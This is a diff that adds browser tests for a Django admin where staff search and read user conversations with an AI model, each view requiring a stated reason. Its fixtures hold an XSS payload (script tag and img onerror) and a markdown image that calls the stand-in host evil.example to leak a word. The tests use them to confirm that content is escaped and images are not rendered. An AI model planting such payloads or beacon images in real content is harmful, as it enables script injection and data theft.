@@ -1,0 +1,111 @@
+"""The admin in a real browser, under its policy: list, search, a transcript with its reason, the dashboard."""
+
+from __future__ import annotations
+
+import uuid
+
+from playwright.sync_api import expect
+
+from accounts.services import register_user
+from conversations.models import AccessLogEntry, Conversation
+from conversations.services import append_message, edit_message, start_conversation
+from dashboard import page as dashboard
+from tests.browser.case import BrowserTestCase, one_database_is_enough
+from tests.staff import LIST, REASON, staff
+
+EVIL = "<script>alert(1)</script><img src=x onerror=alert(1)>"
+WHY = "Why do you need to read this?"
+CODE = (
+    "Try this:\n\n```python\ndef area(r: float) -> float:\n    return 3.14159 * r**2  # close enough\n```\n\n"
+    "| a | b |\n|---|--:|\n| one | 1 |"
+)
+
+
+@one_database_is_enough
+class AdminTest(BrowserTestCase):
+    def setUp(self) -> None:
+        super().setUp()
+        self.reader = staff("carol", "view", "read_content", "change_conversation")
+        self.word = f"word{uuid.uuid4().hex[:12]}"
+        self.owner = register_user(username=f"alice-{uuid.uuid4().hex[:8]}")
+        self.talk = start_conversation(owner_id=self.owner.pk, title=f"Circles {EVIL}", end_user=EVIL[:80])
+        for number in range(6):
+            self.say("user", f"Question {number} about circles", author=EVIL[:60])
+            self.say("assistant", CODE, model="gpt-4o-mini")
+        self.asked = self.say("user", f"And what is {self.word}? {EVIL}")
+        self.say("assistant", f"It is **round**. ![x](https://evil.example/{self.word}.png)", model="gpt-4o-mini")
+        self.sign_in(self.reader)
+
+    def say(self, role: str, text: str, **more: str):
+        return append_message(conversation=self.talk, role=role, content=text, **more)
+
+    def give_reason(self, button: str) -> None:
+        self.page.get_by_label(WHY).fill(REASON)
+        self.page.get_by_role("button", name=button).click()
+
+    def test_from_the_search_box_to_the_message_with_a_reason_each_time(self) -> None:
+        self.page.goto(LIST)
+        self.page.locator("#searchbar").fill(self.word)
+        self.page.keyboard.press("Enter")
+        self.give_reason("Search messages")
+        expect(self.page.locator(".snippet mark").first).to_contain_text(self.word)
+        self.assert_accessible()
+        self.shot("staff-search")
+        # By its address: to the tests' small embedder the word may mean the same as one that others said.
+        self.page.locator(f".hits a[href$='#m-{self.asked.pk}']").click()
+        self.give_reason("Read the conversation")
+        message = self.page.locator(f"#m-{self.asked.pk}")
+        expect(message).to_contain_text(self.word)
+        expect(message).to_be_in_viewport()
+        entries = AccessLogEntry.objects.filter(owner_id=self.owner.pk).newest_first()
+        kinds = list(entries.values_list("kind", flat=True))
+        self.assertEqual(kinds[-1], "search")
+        self.assertEqual(kinds[0], "transcript")
+
+    def test_a_transcript_is_readable_in_light_and_dark_and_acts_not(self) -> None:
+        other = edit_message(message=self.asked, content="Said otherwise")
+        self.page.goto(f"{LIST}{self.talk.pk}/change/")
+        self.give_reason("Read the conversation")
+        expect(self.page.locator(f"#m-{other.pk}")).to_contain_text("Said otherwise")
+        self.assertGreater(self.page.locator(".markdown .k").count(), 0)
+        self.assert_accessible()
+        self.shot("staff-transcript")
+        self.page.get_by_label("Previous version").click()
+        expect(self.page.locator(f"#m-{self.asked.pk}")).to_contain_text("<script>alert(1)</script>")
+        self.assertEqual(self.page.locator(".transcript img, .transcript script").count(), 0)
+        self.page.emulate_media(color_scheme="dark")
+        self.assert_accessible()
+        self.shot("staff-transcript-dark")
+
+    def test_the_lists(self) -> None:
+        for name, address in (
+            ("list", f"{LIST}?owner={self.owner.username}"),
+            ("runs", "/admin/completions/run/"),
+            ("access log", "/admin/conversations/accesslogentry/"),
+            ("keys", "/admin/accounts/apikey/"),
+        ):
+            with self.subTest(name):
+                self.page.goto(address)
+                expect(self.page.locator("#changelist")).to_be_visible()
+                if name in ("list", "runs"):
+                    self.assert_accessible()
+                self.shot(f"staff-{name}")
+        self.page.goto(f"{LIST}?owner={self.owner.username}")
+        expect(self.page.locator("#result_list")).to_contain_text("<script>alert(1)</script>")
+        self.page.locator("#action-toggle").check()
+        self.page.locator("select[name=action]").select_option("archive")
+        self.page.get_by_role("button", name="Go").click()
+        expect(self.page.locator(".messagelist")).to_contain_text("1 conversations were archived")
+        self.assertIsNotNone(Conversation.objects.get(pk=self.talk.pk).archived_at)
+
+    def test_the_dashboard_in_light_and_dark(self) -> None:
+        dashboard.forget()
+        self.page.goto("/admin/dashboard/")
+        expect(self.page.get_by_role("img", name="Messages per day")).to_be_visible()
+        self.page.get_by_text("As a table").first.click()
+        expect(self.page.locator(".dashboard table").first).to_be_visible()
+        self.assert_accessible()
+        self.shot("staff-dashboard")
+        self.page.emulate_media(color_scheme="dark")
+        self.assert_accessible()
+        self.shot("staff-dashboard-dark")
